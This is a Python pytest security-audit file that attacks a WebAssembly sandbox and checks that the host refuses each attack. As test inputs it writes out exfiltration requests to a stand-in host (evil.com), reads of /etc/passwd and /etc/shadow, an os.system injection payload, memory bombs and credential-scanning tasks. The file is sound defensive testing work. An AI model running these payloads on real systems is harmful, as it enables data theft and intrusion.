"""IF.chassis security audit checklist (seed 002 §4 and §7), each item against the real sandbox.

Every attack is made by a real WebAssembly guest (the reference module) and refused by the host;
the host process survives and the other swarms keep working.
"""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
import wasmtime

from infrafabric.chassis import (
    CpuLimitExceededError,
    CredentialError,
    CredentialExpiredError,
    EndpointNotAllowedError,
    ForbiddenImportError,
    GuestMemoryError,
    GuestTrapError,
    IFChassis,
    RateLimitExceeded,
    ResourceLimits,
    ScopedCredentials,
    ServiceContract,
    ServiceLevelObjective,
    TaskTimeoutError,
)
from infrafabric.chassis.modules import reference_module
from tests.fixtures.chassis_fixtures import xor1

pytestmark = [pytest.mark.security, pytest.mark.wasm]


# ------------------------------------------------------------------------------------ the seed's
@pytest.mark.critical
async def test_wasm_sandbox_filesystem_isolation(audit_recorder):
    """CRITICAL: WASM sandbox must NOT access host filesystem"""
    chassis = IFChassis(audit=audit_recorder)

    # WASM module attempts to read /etc/passwd
    malicious_task = {
        'action': 'read_file',
        'path': '/etc/passwd'
    }

    with pytest.raises(PermissionError) as info:
        await chassis.execute_task(
            swarm_id='malicious-swarm',
            task=malicious_task,
            credentials=None
        )
    assert "path_open" in info.value.message  # refused by the host at the WASI call itself
    refused = [e for e in audit_recorder.events if e["operation"] == "task_refused"]
    assert refused and refused[0]["severity"] == "HIGH"
    chassis.close()


@pytest.mark.critical
async def test_wasm_has_no_preopened_directories_even_below_the_host_refusal(chassis):
    """Defence in depth: WASI has no preopens, so fd 3 does not exist (EBADF = 8)."""
    assert await chassis.execute_task("probe", {"action": "preopen_probe"}) == {"status": "success", "errno": 8}


@pytest.mark.critical
async def test_wasm_sandbox_network_isolation(local_upstream):
    """CRITICAL: WASM sandbox must NOT make arbitrary network requests"""
    chassis = IFChassis()

    # WASM module attempts to exfiltrate data (to evil.com, and to a real reachable local server)
    for url in ('https://evil.com/exfiltrate', local_upstream.url('/exfiltrate')):
        malicious_task = {'action': 'http_request', 'url': url, 'data': 'stolen_api_keys'}
        with pytest.raises(PermissionError):
            await chassis.execute_task(swarm_id='malicious-swarm', task=malicious_task, credentials=None)
    with pytest.raises(PermissionError):  # raw WASI sockets are refused too
        await chassis.execute_task(swarm_id='malicious-swarm', task={'action': 'socket_send'}, credentials=None)
    assert local_upstream.seen() == [], "a refused request reached the network"
    chassis.close()


@pytest.mark.critical
async def test_credential_scope_enforcement():
    """CRITICAL: Credentials must only work for allowed endpoints"""
    creds = ScopedCredentials(
        swarm_id='test',
        task_id='test',
        api_token='test-token',
        ttl_seconds=300,
        allowed_endpoints=['https://api.openai.com/v1/chat/completions']
    )
    assert creds.is_endpoint_allowed('https://api.openai.com/v1/chat/completions')
    assert not creds.is_endpoint_allowed('https://evil.com/steal')


@pytest.mark.critical
async def test_requests_to_non_allowed_endpoints_are_blocked_in_the_sandbox(
        chassis, local_upstream, second_upstream, scoped_credentials_factory):
    creds = scoped_credentials_factory("swarm-s", "t-1", endpoints=[local_upstream.url("/v1/chat/completions")])
    task = {"id": "t-1", "action": "http_request", "url": second_upstream.url("/steal"), "data": "x"}
    with pytest.raises(EndpointNotAllowedError):
        await chassis.execute_task("swarm-s", task, creds)
    assert second_upstream.seen() == [] and local_upstream.seen() == []


# ------------------------------------------------------------------------------------ exec / shell
@pytest.mark.critical
async def test_wasm_no_exec(chassis, tmp_path):
    """CRITICAL: no shell access from WASM: exec-like imports are refused, task text is never run."""
    marker = tmp_path / "pwned"
    for name in ("system", "exec", "popen", "spawn"):
        wasm = wasmtime.wat2wasm(
            f'(module (import "env" "{name}" (func (param i32 i32) (result i32)))'
            ' (memory (export "memory") 1)'
            ' (func (export "alloc") (param i32) (result i32) i32.const 0)'
            ' (func (export "execute_task") (param i32 i32) (result i64) i64.const 0))')
        with pytest.raises(ForbiddenImportError) as info:
            chassis.load_swarm("shell-swarm", wasm, ServiceContract("shell-swarm"))
        assert isinstance(info.value, PermissionError)
    # Bug 3 ran swarm code through exec(): task content must only ever be data for the guest.
    payload = f"__import__('os').system('touch {marker}')"
    result = await chassis.execute_task("shell-swarm-2", {"action": payload, "code": payload})
    assert result["status"] == "error" and result["error"] == "unknown_action"
    assert not marker.exists()


# ------------------------------------------------------------------------------------ memory / cpu
@pytest.mark.critical
async def test_memory_bomb_is_refused_and_the_host_survives(chassis):
    chassis.load_swarm("bomb", reference_module(), ServiceContract(
        "bomb", resource_requirements=ResourceLimits(max_memory_mb=32)))
    with pytest.raises(MemoryError):
        await chassis.execute_task("bomb", {"action": "allocate", "mb": 64})
    ok = await chassis.execute_task("bomb", {"action": "allocate", "mb": 16})  # within the cap: allowed
    assert ok == {"status": "success", "allocated_mb": 16}
    chassis.load_swarm("bomb2", reference_module(), ServiceContract(
        "bomb2", resource_requirements=ResourceLimits(max_memory_mb=1, max_task_bytes=2 * 1024 * 1024)))
    with pytest.raises(GuestMemoryError):  # a task bigger than the whole memory cap
        await chassis.execute_task("bomb2", {"action": "echo", "pad": "x" * (1024 * 1024 + 10)})
    assert await chassis.execute_task("other", {"action": "noop"}) == {"status": "success"}


@pytest.mark.critical
async def test_cpu_limit_enforcement(chassis):
    """CRITICAL: task killed on CPU time exceeded (fuel)."""
    chassis.load_swarm("spinner", reference_module(), ServiceContract(
        "spinner", resource_requirements=ResourceLimits(max_execution_time_seconds=5, max_cpu_percent=2)))
    started = time.monotonic()
    with pytest.raises(TimeoutError) as info:
        await chassis.execute_task("spinner", {"action": "loop_forever"})
    assert isinstance(info.value, CpuLimitExceededError), info.value
    assert info.value.error_code == "IF_ERR_CHASSIS_CPU_LIMIT"
    assert time.monotonic() - started < 5, "the CPU budget (2% of 5 s) should stop it before the wall cap"
    assert await chassis.execute_task("bystander", {"action": "noop"}) == {"status": "success"}


@pytest.mark.critical
async def test_infinite_loop_hits_the_wall_clock_cap(chassis):
    chassis.load_swarm("looper", reference_module(), ServiceContract(
        "looper", resource_requirements=ResourceLimits(max_execution_time_seconds=0.3, max_fuel=10**13)))
    started = time.monotonic()
    with pytest.raises(TimeoutError) as info:
        await chassis.execute_task("looper", {"action": "loop_forever"})
    elapsed = time.monotonic() - started
    assert type(info.value) is TaskTimeoutError and info.value.error_code == "IF_ERR_CHASSIS_TIMEOUT"
    assert 0.25 <= elapsed < 3.0


async def test_stack_overflow_is_a_trap_not_a_crash(chassis):
    with pytest.raises(GuestTrapError, match="stack"):
        await chassis.execute_task("deep", {"action": "recurse"})
    assert await chassis.execute_task("deep", {"action": "noop"}) == {"status": "success"}


# ------------------------------------------------------------------------------------ credentials
@pytest.mark.critical
async def test_expired_credentials_are_rejected(chassis, local_upstream, scoped_credentials_factory):
    creds = scoped_credentials_factory("swarm-e", "t-exp", endpoints=[local_upstream.url("/v1/chat/completions")])
    creds.created_at = time.time() - 301
    with pytest.raises(CredentialExpiredError):
        await chassis.execute_task("swarm-e", {"id": "t-exp", "action": "call_llm", "prompt": "hi",
                                               "url": local_upstream.url("/v1/chat/completions")}, creds)
    assert local_upstream.seen() == []


@pytest.mark.critical
async def test_task_cannot_outlive_its_credentials(chassis, local_upstream, scoped_credentials_factory):
    chassis.load_swarm("swarm-ttl", reference_module(), ServiceContract(
        "swarm-ttl", resource_requirements=ResourceLimits(max_cpu_percent=100)))
    creds = scoped_credentials_factory("swarm-ttl", "t-ttl", ttl=0.3,
                                       endpoints=[local_upstream.url("/v1/chat/completions")])
    started = time.monotonic()
    with pytest.raises(TaskTimeoutError):
        await chassis.execute_task("swarm-ttl", {"id": "t-ttl", "action": "loop_forever"}, creds)
    assert time.monotonic() - started < 3


@pytest.mark.critical
async def test_credential_isolation(chassis, local_upstream, scoped_credentials_factory, audit_recorder):
    """Swarm A cannot use swarm B's credentials, nor credentials of another task."""
    endpoint = local_upstream.url("/v1/chat/completions")
    creds_b = scoped_credentials_factory("swarm-b", "task-b", endpoints=[endpoint])
    task = {"id": "task-b", "action": "call_llm", "prompt": "hi", "url": endpoint}
    with pytest.raises(CredentialError) as info:
        await chassis.execute_task("swarm-a", task, creds_b)
    assert isinstance(info.value, PermissionError)
    with pytest.raises(CredentialError):
        await chassis.execute_task("swarm-b", {**task, "id": "task-other"}, creds_b)
    assert local_upstream.seen() == []
    assert (await chassis.execute_task("swarm-b", task, creds_b))["status"] == "success"
    assert len(local_upstream.seen()) == 1
    refused = [e for e in audit_recorder.events if e["operation"] == "task_refused"]
    assert len(refused) == 2 and all(creds_b.api_token not in str(e) for e in audit_recorder.events)


@pytest.mark.critical
async def test_no_persistent_credentials(chassis, local_upstream, scoped_credentials_factory, monkeypatch):
    """Only the host holds the token: a guest scanning its whole memory finds neither the scoped token
    nor the host's long-lived key; the environment is empty."""
    long_lived = "sk-live-host-key-0123456789"
    monkeypatch.setenv("OPENAI_API_KEY", long_lived)
    endpoint = local_upstream.url("/v1/chat/completions")
    token = "sk-scoped-token-4242"
    creds = scoped_credentials_factory("swarm-m", "t-mem", endpoints=[endpoint, local_upstream.url("/echo-auth")],
                                       token=token)
    for needle in (token, long_lived):
        result = await chassis.execute_task(
            "swarm-m", {"id": "t-mem", "action": "scan_memory", "url": endpoint, "needle_x1": xor1(needle)}, creds)
        assert result["matches"] == 0, f"{needle[:8]}... found in guest memory"
        assert result["scanned_bytes"] >= 2 * 65536
    # the host did inject the token on the wire
    assert {r.authorization for r in local_upstream.seen()} == {f"Bearer {token}"}
    # positive control: the scanner does find what the host wrote (the upstream's canary)
    canary = await chassis.execute_task(
        "swarm-m", {"id": "t-mem", "action": "scan_memory", "url": endpoint, "needle_x1": xor1(local_upstream.canary)},
        creds)
    assert canary["matches"] >= 1
    # an upstream that echoes the Authorization header is redacted before it reaches the guest
    echoed = await chassis.execute_task(
        "swarm-m", {"id": "t-mem", "action": "scan_memory", "url": local_upstream.url("/echo-auth"),
                    "needle_x1": xor1(token)}, creds)
    assert echoed["matches"] == 0
    assert await chassis.execute_task("swarm-m", {"action": "env_probe"}) == {
        "status": "success", "env_count": 0, "env_bytes": 0, "argc": 0}


# ------------------------------------------------------------------------------------ rate limits
@pytest.mark.critical
async def test_rate_limiting_bypass(chassis, local_upstream, scoped_credentials_factory):
    """Attempts to get around the per-swarm limit: many concurrent tasks, reloading, a tight loop of
    outbound calls inside one task, other swarms' credentials."""
    endpoint = local_upstream.url("/v1/chat/completions")
    limits = ResourceLimits(max_api_calls_per_second=10, max_execution_time_seconds=1.0)
    chassis.load_swarm("greedy", reference_module(), ServiceContract("greedy", resource_requirements=limits))
    # 1. a tight loop of outbound calls in one task is paced, then refused at the deadline (by the
    # limiter when the next call could not start in time, or by the deadline check of the host call)
    creds = scoped_credentials_factory("greedy", "loop", endpoints=[endpoint])
    started = time.monotonic()
    with pytest.raises((RateLimitExceeded, TaskTimeoutError)):
        await chassis.execute_task("greedy", {"id": "loop", "action": "http_loop", "url": endpoint, "count": 1000},
                                   creds)
    elapsed = time.monotonic() - started
    calls = len(local_upstream.seen())
    assert calls <= 10 * elapsed + 2, f"{calls} calls in {elapsed:.2f}s beat 10/s"
    # 2. re-loading the swarm does not reset its bucket
    chassis.load_swarm("greedy", reference_module(), ServiceContract("greedy", resource_requirements=limits))
    with pytest.raises(RateLimitExceeded):
        chassis.check_rate_limit("greedy")
    # 3. borrowing another swarm's credentials (and so its budget) is refused
    other = scoped_credentials_factory("patient", "p1", endpoints=[endpoint])
    with pytest.raises(CredentialError):
        await chassis.execute_task("greedy", {"id": "p1", "action": "call_llm", "url": endpoint}, other)
    # 4. id look-alikes are not a new identity: they are rejected outright
    for alias in ("greedy ", "greedy\n", "greedy/../x"):
        with pytest.raises(ValueError):
            await chassis._apply_rate_limit(alias, wait=False)


# ------------------------------------------------------------------------------------ cross-swarm
@pytest.mark.critical
async def test_cross_swarm_isolation(chassis, sample_wasm_module):
    """Swarms sharing one compiled module share no state: memory, globals, output."""
    chassis.load_swarm("alice", sample_wasm_module, ServiceContract("alice"))
    chassis.load_swarm("mallory", sample_wasm_module, ServiceContract("mallory"))
    secret = "alice-private-key-9f8e7d"
    stored = await chassis.execute_task_detailed("alice", {"action": "store_secret", "secret": secret})
    assert stored.result == {"status": "success"}
    await chassis.execute_task("alice", {"action": "stdout", "text": secret})
    leaked = await chassis.execute_task_detailed("mallory", {"action": "read_secret"})
    assert leaked.result == {"status": "success", "secret": "", "nonzero": 0}
    assert secret.encode() not in leaked.stdout
    scan = await chassis.execute_task("mallory", {"action": "scan_memory", "needle_x1": xor1(secret)})
    assert scan["matches"] == 0
    assert chassis.swarm_runtimes["alice"].compiled is chassis.swarm_runtimes["mallory"].compiled


# ------------------------------------------------------------------------------------ reputation
@pytest.mark.critical
async def test_reputation_manipulation(chassis):
    """A guest cannot report its own latency, reputation or another swarm's identity."""
    chassis.load_swarm("liar", reference_module(), ServiceContract(
        "liar", slos=ServiceLevelObjective(p99_latency_ms=1, success_rate=0.95, availability=0.99)))
    chassis.load_swarm("victim", reference_module(), ServiceContract("victim"))
    for _ in range(5):
        result = await chassis.execute_task(
            "liar", {"action": "spoof", "iterations": 30_000_000, "target": "victim"})
        assert result["reputation"] == 1.0 and result["latency_ms"] == 0  # the lie is in the payload only
    summary = chassis.get_performance("liar")
    assert summary.p99_latency_ms is not None and summary.p99_latency_ms > 1
    assert chassis._calculate_reputation("liar") == pytest.approx(0.9)
    assert chassis.performance_metrics.samples("victim") == []
    assert chassis._calculate_reputation("victim") == 1.0
    assert not hasattr(chassis, "set_reputation")


# ------------------------------------------------------------------------------------ survival
async def test_host_survives_every_attack_and_others_keep_working(chassis):
    attacks = [{"action": "allocate_512mb"}, {"action": "read_file", "path": "/etc/shadow"},
               {"action": "http_request", "url": "https://evil.com/x"}, {"action": "recurse"},
               {"action": "trap"}, {"action": "bad_result"}, {"action": "socket_send"}]
    for task in attacks:
        with pytest.raises(Exception) as info:
            await chassis.execute_task("attacker", task)
        assert hasattr(info.value, "error_code") and hasattr(info.value, "message")
    assert await chassis.execute_task("innocent", {"action": "wordcount", "text": "still fine"}) == {
        "status": "success", "words": 2}
    assert Path("/proc/self").exists() and os.getpid() > 0
